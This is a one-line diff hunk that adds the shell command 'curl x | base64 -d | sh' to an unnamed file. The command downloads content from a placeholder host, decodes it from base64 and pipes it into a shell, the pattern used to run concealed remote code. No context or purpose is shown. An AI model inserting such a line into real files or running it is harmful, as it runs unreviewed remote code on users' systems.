@@ -1,0 +1,1 @@
+curl x | base64 -d | sh
